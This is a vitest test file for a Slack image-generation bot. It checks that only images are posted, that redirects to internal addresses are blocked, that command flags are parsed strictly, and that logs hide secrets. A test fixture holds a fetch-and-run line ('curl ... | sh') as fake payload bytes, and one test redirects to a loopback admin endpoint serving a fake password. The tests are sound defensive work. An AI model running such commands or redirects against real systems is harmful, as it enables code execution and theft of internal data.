/**
 * Issue 13 against the running Slack side of the bot in Socket Mode: the real Bolt app against the
 * fake Slack, the real service, the real Images client against the fake Images API. Only images
 * leave the bot, text is parsed strictly, and debug logs show no bearer URL.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startFakeSlack, type FakeSlack } from './fakes/slack/server.js';
import { startSlackBot, type SlackBot } from './fakes/slack/slack-bot.js';

let slack: FakeSlack;
let bot: SlackBot | undefined;
const closers: Array<() => Promise<void>> = [];

beforeEach(async () => {
  slack = await startFakeSlack({ users: [{ id: 'UADMIN', isAdmin: true }] });
});
afterEach(async () => {
  await bot?.stop();
  bot = undefined;
  await slack.close();
  for (const close of closers.splice(0)) await close();
});

const start = async (options: Partial<Parameters<typeof startSlackBot>[0]> = {}) => {
  bot = await startSlackBot({ mode: 'socket', slack, ...options });
  return bot;
};

const imagine = (running: SlackBot, text: string, userId = 'U1') =>
  running.send.command({ command: '/imagine', text, userId, channelId: 'C1' });

const reply = (index = 0) =>
  slack.waitFor(`ephemeral reply #${index + 1}`, () => slack.responses[index]?.body);

const small = '--model dall-e-2 --size 256x256';

describe('only images leave the bot', () => {
  it.each([
    ['b64_json', 'a shell script', Buffer.from('#!/bin/sh\ncurl -s http://10.0.0.1/ | sh\n')],
    ['url', 'an HTML page', Buffer.from('<!doctype html><title>internal admin</title>')],
  ] as const)(
    'posts nothing when the %s image is %s, tells the owner, and refunds',
    async (mode, _, bytes) => {
      const running = await start({ api: { responseMode: mode } });
      running.core.api.failNext(1, { type: 'notAnImage', bytes });

      await imagine(running, `a lighthouse ${small} --count 2`);
      const status = await slack.waitFor('the failure on the status message', () =>
        slack.workspace.messages.find((message) =>
          message.text.includes('failed to produce the image'),
        ),
      );

      expect(status.text).toContain('Nothing was charged');
      expect(slack.workspace.files.size).toBe(0);
      expect(slack.workspace.messages.every((message) => message.fileIds.length === 0)).toBe(true);
      const standing = await running.core.service.standing(slack.workspace.teamId, 'U1');
      expect(standing.user.used).toBe(0);
    },
  );
});

describe('downloads go only where they should', () => {
  /** An address inside the operator's network, on loopback: its text must never be posted. */
  const startInternal = async () => {
    const hits: string[] = [];
    const server = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'text/plain' }).end('db_password=hunter2\n');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    closers.push(
      () =>
        new Promise<void>((done) => {
          server.closeAllConnections();
          server.close(() => done());
        }),
    );
    return { hits, port: (server.address() as AddressInfo).port };
  };

  const expectFailedAndRefunded = async (running: SlackBot) => {
    await slack.waitFor('the failure on the status message', () =>
      slack.workspace.messages.find((message) => message.text.includes('Nothing was charged')),
    );
    expect(slack.workspace.files.size).toBe(0);
    expect(slack.workspace.messages.map((message) => message.text).join('\n')).not.toContain(
      'hunter2',
    );
    const standing = await running.core.service.standing(slack.workspace.teamId, 'U1');
    expect(standing.user.used).toBe(0);
  };

  it('refuses a redirect to an address the rules exclude, connecting to nothing there', async () => {
    const internal = await startInternal();
    const running = await start({
      api: { responseMode: 'url' },
      // As if the API were public: loopback, other than the API's own host, is then excluded.
      client: {
        downloadRules: { trustedHosts: new Set(['127.0.0.1']), trustedRanges: new Set() },
      },
    });
    running.core.api.failNext(1, {
      type: 'redirectDownload',
      location: `http://localhost:${internal.port}/admin/config`,
    });

    await imagine(running, `a lighthouse ${small}`);

    await expectFailedAndRefunded(running);
    expect(internal.hits).toEqual([]);
  });

  it('posts nothing of what an allowed redirect serves when it is not an image', async () => {
    const internal = await startInternal();
    const running = await start({ api: { responseMode: 'url' } });
    running.core.api.failNext(1, {
      type: 'redirectDownload',
      location: `http://localhost:${internal.port}/admin/config`,
    });

    await imagine(running, `a lighthouse ${small}`);

    await expectFailedAndRefunded(running);
    expect(internal.hits).toEqual(['/admin/config']);
  });
});

describe('strict, forgiving text', () => {
  it('sends a flag in the middle of the prompt upstream as part of it', async () => {
    const running = await start();
    await imagine(running, `a poster that says --count=2 in big letters ${small}`);
    await slack.waitFor('the upload', () => slack.workspace.files.size === 1);
    expect(running.core.api.requests[0]?.body).toMatchObject({
      prompt: 'a poster that says --count=2 in big letters',
      n: 1,
    });
  });

  it('reads the dash phones type for -- and flag names in any case', async () => {
    const running = await start();
    await imagine(running, 'a red kite —model dall-e-2 –size=256x256 --COUNT 2');
    await slack.waitFor('two uploads', () => slack.workspace.files.size === 2);
    expect(running.core.api.requests[0]?.body).toMatchObject({
      prompt: 'a red kite',
      model: 'dall-e-2',
      size: '256x256',
      n: 2,
    });
  });

  it('takes a prompt as long as the model allows, beyond 6,000 characters', async () => {
    const running = await start();
    const prompt = 'a lighthouse on a cliff, '.repeat(400).trim();
    await imagine(running, `${prompt} --model gpt-image-1 --quality low --size 1024x1024`);
    await slack.waitFor('the upload', () => slack.workspace.files.size === 1);
    expect(prompt.length).toBeGreaterThan(6_000);
    expect(running.core.api.requests[0]?.body?.prompt).toBe(prompt);
  });

  it.each([
    ['a repeated flag', `a cat ${small} --count 2 --count 3`, '--count is given more than once'],
    [
      'a hexadecimal count',
      `a cat ${small} --count 0x2`,
      'count must be a whole number in plain digits, not "0x2"',
    ],
    [
      'an exponent',
      `a cat ${small} --count 1e1`,
      'count must be a whole number in plain digits, not "1e1"',
    ],
    [
      'a prompt of zero-width characters',
      `\u200b\u200c\u200d\u2060 ${small}`,
      'prompt is required',
    ],
  ])('refuses %s with the usage, requesting and charging nothing', async (_, text, problem) => {
    const running = await start();
    await imagine(running, text);
    const answer = String((await reply()).text);
    expect(answer).toContain(problem);
    if (!text.startsWith('\u200b')) expect(answer).toContain('Usage:\n/imagine &lt;prompt&gt;');
    expect(running.core.api.requests).toHaveLength(0);
    const standing = await running.core.service.standing(slack.workspace.teamId, 'U1');
    expect(standing.user.used).toBe(0);
    expect(running.logLines.filter((line) => /"level":(50|60)/.test(line))).toEqual([]);
  });

  it('holds /quota-admin to the same rules', async () => {
    const running = await start();
    const admin = (text: string) =>
      running.send.command({ command: '/quota-admin', text, userId: 'UADMIN', channelId: 'C1' });

    await admin('user-limit -5 day');
    expect(String((await reply(0)).text)).toContain(
      'limit must be from 0 to 1000000, not -5.\nUsage:\n/quota-admin guild-limit',
    );
    await admin('grant <@U1> 1e20');
    expect(String((await reply(1)).text)).toContain(
      'amount must be a whole number in plain digits, not "1e20"',
    );
    await admin('guild-limit 10 day —force yes');
    expect(String((await reply(2)).text)).toContain('unknown option --force');
    expect((await running.core.service.quotaAdmin.report(slack.workspace.teamId)).guild.limit).toBe(
      null,
    );
  });
});

describe('logs', () => {
  it('show no response_url and no socket ticket at any level, debug included', async () => {
    const running = await start();
    await imagine(running, `a lighthouse ${small}`);
    await slack.waitFor('the upload', () => slack.workspace.files.size === 1);
    await imagine(running, 'a cat --colour red');
    await reply();

    const log = running.logLines.join('');
    expect(running.logLines.some((line) => line.includes('"level":20'))).toBe(true);
    expect(slack.issuedSecrets.length).toBeGreaterThanOrEqual(3);
    for (const secret of slack.issuedSecrets) expect(log).not.toContain(secret);
  });
});
